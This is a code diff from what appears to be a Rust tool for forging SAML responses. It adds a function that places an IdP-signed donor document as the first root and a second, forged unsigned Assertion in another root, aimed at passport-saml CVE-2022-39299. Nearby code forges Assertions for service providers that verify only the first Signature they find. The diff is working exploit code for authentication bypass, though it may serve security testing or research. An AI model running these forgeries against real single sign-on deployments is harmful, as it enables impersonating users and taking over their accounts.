@@ -204,6 +204,20 @@ pub fn embeddable(xml: &str) -> &str {
     }
 }
 
+/// A donor (IdP-signed metadata) as the first root; a second root holding the forged
+/// Assertion (passport-saml CVE-2022-39299: any IdP-signed element is enough).
+pub fn roots_donor_first(f: &Forge) -> Result<Forged, Skip> {
+    let donor = embeddable(f.donor()?);
+    let doc = parse(f)?;
+    let p = Parts::of(&doc)?;
+    let (evil, swap) = p.forged_assertion(None);
+    let second = format!(
+        "<samlp:Response xmlns:samlp=\"{PROTOCOL_NS}\" ID=\"{}\" Version=\"2.0\"><samlp:Status><samlp:StatusCode Value=\"urn:oasis:names:tc:SAML:2.0:status:Success\"/></samlp:Status>{evil}</samlp:Response>",
+        evil_id(p.root.attribute("ID").unwrap_or("_r"))
+    );
+    forged(format!("{donor}{second}"), swap)
+}
+
 /// A donor's valid Signature first in document order (inside `samlp:Extensions`), the
 /// Assertion forged and unsigned: for SPs that verify "the first Signature they find".
 pub fn donor_signature_first(f: &Forge) -> Result<Forged, Skip> {
